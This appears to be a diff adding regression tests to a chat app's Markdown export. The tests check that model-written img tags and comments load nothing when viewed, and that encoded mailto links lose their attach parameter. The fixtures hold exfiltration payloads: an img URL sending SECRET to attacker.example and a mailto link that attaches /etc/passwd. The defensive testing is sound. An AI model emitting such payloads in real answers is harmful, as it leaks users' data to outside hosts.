@@ -51,3 +51,22 @@ def test_the_markdown_export_loads_nothing_when_viewed():
 def test_copy_gives_the_answers_markdown_as_written():
     # pasted where its text is seen (a note, a message): the model's Markdown, images and all
     assert answer_markdown(_chat()[1][1]) == HOSTILE + "\n"
+
+
+def test_a_tag_with_a_stray_angle_bracket_or_a_slash_still_loads_nothing():
+    # The tag pattern stopped at a "<" inside the tag, and left it whole for the viewer to load.
+    for tag in ('<img src="http://attacker.example/?d=SECRET&x=<">', "<img/src=http://attacker.example/x.png>",
+                '<img src="http://attacker.example/x.png"', "<!-- a comment -->"):
+        text = export_markdown(ChatInfo("c", "Chat", "", 0, 0),
+                               [StoredMessage(1, "user", "hi"), StoredMessage(2, "assistant", f"Look: {tag} done")])
+        viewed = markdown.markdown(text)
+        assert _elements(viewed, "img") == [] and "<!--" not in viewed, text
+        assert "done" in viewed
+
+
+def test_a_mailto_address_spelt_as_a_viewer_decodes_it_loses_attach_too():
+    for address in ("mailto\\:help@example.org?attach=/etc/passwd", "mailto&#58;help@example.org?attach=/etc/passwd",
+                    "MAILTO&#x3A;help@example.org?subject=Hi&attach=/etc/passwd"):
+        text = export_markdown(ChatInfo("c", "Chat", "", 0, 0),
+                               [StoredMessage(1, "user", "hi"), StoredMessage(2, "assistant", f"[us]({address})")])
+        assert "attach" not in text and "help@example.org" in text, text
